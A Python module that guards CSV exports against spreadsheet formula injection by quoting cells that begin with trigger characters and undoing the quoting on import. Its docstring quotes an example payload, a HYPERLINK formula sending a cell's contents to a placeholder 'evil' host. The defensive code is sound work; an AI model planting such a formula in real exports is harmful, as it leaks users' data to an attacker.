"""Cells of the CSV files we write, safe to open in a spreadsheet (OWASP "CSV injection").

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their fullwidth forms), a tab, a carriage return
or a line feed, also after spaces, is a formula to Excel,
LibreOffice and Google Sheets: a trace's text such as ``=HYPERLINK("http://evil/?"&A1)`` would run when a
user opens an export. :func:`escape_formula` prefixes such a cell with a single quote (shown as text,
never run); :func:`unescape_formula` undoes it exactly, so that a dataset exported and imported again is
unchanged. A cell that already starts with quotes before a trigger gets one more, which keeps the pair
inverse for every string.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# spreadsheets skip these before a formula: " =1+1", "\n=1+1" and "\u00a0=1+1" run too
_SKIPPED = " \n\u00a0\u3000"


def _needs_quote(cell: str) -> bool:
    rest = cell.lstrip("'")
    return rest.startswith(FORMULA_TRIGGERS) or rest.lstrip(_SKIPPED).startswith(FORMULA_TRIGGERS)


def escape_formula(cell: Any) -> Any:
    """``cell`` as written to a CSV file: a string that a spreadsheet would run as a formula gets a
    leading single quote; anything else (numbers included) is returned unchanged."""
    if isinstance(cell, str) and cell and _needs_quote(cell):
        return "'" + cell
    return cell


def unescape_formula(cell: str) -> str:
    """The value of a cell written by :func:`escape_formula`."""
    if cell.startswith("'") and _needs_quote(cell):
        return cell[1:]
    return cell
